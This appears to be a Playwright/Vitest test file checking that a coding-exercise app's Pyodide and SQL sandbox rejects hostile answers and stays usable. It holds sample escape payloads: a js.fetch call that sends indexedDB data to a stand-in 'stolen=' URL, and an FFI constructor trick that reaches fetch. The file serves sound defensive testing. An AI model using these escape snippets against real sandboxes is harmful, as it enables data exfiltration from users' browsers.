import { readFileSync, readdirSync } from 'node:fs'
import { extname, join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openPage, pasteAnswer, startApp, submitAndWaitForVerdict, type AppUnderTest } from './app'

const pythonHash = '#/exercise/feed-engagement/py-anomaly-detector'
const PYTHON_TIMEOUT = 60_000
const correct = readFileSync('src/scenarios/feed-engagement/py-anomaly-detector.alt/loops.py', 'utf8')

// In the browser `js` would be the worker's globals: fetch, indexedDB, caches.
const viaJs = `import js
js.fetch("https://example.com/?stolen=" + str(js.indexedDB))

def detect_engagement_anomalies(daily_metrics, window_days=7, threshold_pct=15.0):
    return []
`
// The FFI from inside the graded function, with the refusal swallowed.
const viaFfi = `def detect_engagement_anomalies(daily_metrics, window_days=7, threshold_pct=15.0):
    try:
        from pyodide.ffi import to_js
        to_js([]).constructor.constructor("return fetch")()("https://example.com/")
    except ImportError:
        pass
    return []
`

describe('escape attempts on a Python exercise page (Chromium, built app with its Content-Security-Policy)', () => {
  let app: AppUnderTest
  beforeAll(async () => {
    app = await startApp()
  })
  afterAll(async () => {
    await app?.close()
  })

  it('rejects answers that reach for js or the FFI with a plain message, then grades a correct answer', async () => {
    const context = await app.browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] })
    const cspViolations: string[] = []
    context.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) cspViolations.push(message.text())
    })
    const { page, errors } = await openPage(context, app.host.url + pythonHash)
    await page.waitForFunction(() => [...document.querySelectorAll('button')].some((b) => b.textContent?.trim() === 'Run' && !b.disabled), undefined, {
      timeout: PYTHON_TIMEOUT,
    })

    await pasteAnswer(page, viaJs)
    const first = await submitAndWaitForVerdict(page, PYTHON_TIMEOUT)
    expect(first).toMatch(/^Rejected/)
    expect(first).toContain('Your code tried to use `js`, which answers cannot reach')

    await pasteAnswer(page, viaFfi)
    const second = await submitAndWaitForVerdict(page, PYTHON_TIMEOUT)
    expect(second).toMatch(/^Rejected/)
    expect(second).toContain('Your code tried to use `pyodide`, which answers cannot reach')

    // The page and Python still work: a correct answer is accepted.
    await pasteAnswer(page, correct)
    expect(await submitAndWaitForVerdict(page, PYTHON_TIMEOUT)).toMatch(/^Accepted/)
    // The app itself (Monaco, sql.js, Pyodide, the service worker) runs within the policy.
    expect(cspViolations).toEqual([])
    expect(errors).toEqual([])
    await context.close()
  })
})

/**
 * Every answer of tests/hostile/answers/ (the ones `grade` is tested with), submitted in the built
 * app on the exercise `grade` grades it against: each is rejected with the message its header
 * names (`# message: a | b`, any one; an empty message: any rejection), and the page stays usable
 * (a correct answer is accepted afterwards). One page per exercise for all its answers: every
 * Submit grades in a fresh Python namespace or a fresh copy of the data, and a run stopped or
 * broken is replaced by the sandbox client, which is what this checks too.
 */
const HOSTILE_DIR = 'tests/hostile/answers'
const hostile = readdirSync(HOSTILE_DIR)
  .sort()
  .map((name) => {
    const text = readFileSync(join(HOSTILE_DIR, name), 'utf8')
    const comment = extname(name) === '.sql' ? '--' : '#'
    const messages = (text.match(new RegExp(`^${comment} message:(.*)$`, 'm'))?.[1] ?? '').split('|').map((m) => m.trim()).filter(Boolean)
    return { name, kind: extname(name) === '.sql' ? ('sql' as const) : ('python' as const), text: text.replaceAll('{{CANARY_DIR}}', '/tmp/hostile-canary'), messages }
  })

const EXERCISES = {
  python: { hash: '#/exercise/reels-sessions/py-event-parser', correct: readFileSync('src/scenarios/reels-sessions/py-event-parser.alt/step_by_step.py', 'utf8') },
  sql: { hash: '#/exercise/feed-engagement/sql-dau-mau-ratio', correct: readFileSync('src/scenarios/feed-engagement/sql-dau-mau-ratio.sql', 'utf8') },
}

/** Run is enabled once the page's sandbox is ready; a busy machine can take minutes to start Pyodide. */
async function waitForRunButton(page: Page): Promise<void> {
  await page.waitForFunction(() => [...document.querySelectorAll('button')].some((b) => b.textContent?.trim() === 'Run' && !b.disabled), undefined, {
    timeout: 180_000,
  })
}

describe('every hostile answer in the browser (built app, one page per exercise)', () => {
  let app: AppUnderTest
  beforeAll(async () => {
    app = await startApp()
  })
  afterAll(async () => {
    await app?.close()
  })

  it.each(['python', 'sql'] as const)('%s: each answer is rejected with its message; then a correct answer is accepted', async (kind) => {
    const answers = hostile.filter((a) => a.kind === kind)
    expect(answers.length).toBeGreaterThan(kind === 'python' ? 10 : 2)
    const context = await app.browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] })
    const { page, errors } = await openPage(context, app.host.url + EXERCISES[kind].hash)
    await waitForRunButton(page)
    const verdicts: string[] = []
    for (const answer of answers) {
      await pasteAnswer(page, answer.text)
      const verdict = await submitAndWaitForVerdict(page, 120_000)
      verdicts.push(`${answer.name}: ${verdict.slice(0, 160)}`)
      console.info(verdicts.at(-1))
      expect(verdict, answer.name).toMatch(/^Rejected/)
      if (answer.messages.length > 0) expect(answer.messages.some((m) => verdict.includes(m)), `${answer.name}: ${answer.messages.join(' or ')} in ${verdict}`).toBe(true)
      // Usable between answers: the buttons come back once Python (or SQL) is ready again.
      await waitForRunButton(page).catch(async (error: unknown) => {
        await page.screenshot({ path: `/tmp/hostile-${answer.name}.png` })
        throw error
      })
    }
    await pasteAnswer(page, EXERCISES[kind].correct)
    expect(await submitAndWaitForVerdict(page, 120_000)).toMatch(/^Accepted/)
    expect(errors).toEqual([])
    await context.close()
  }, 900_000)
})
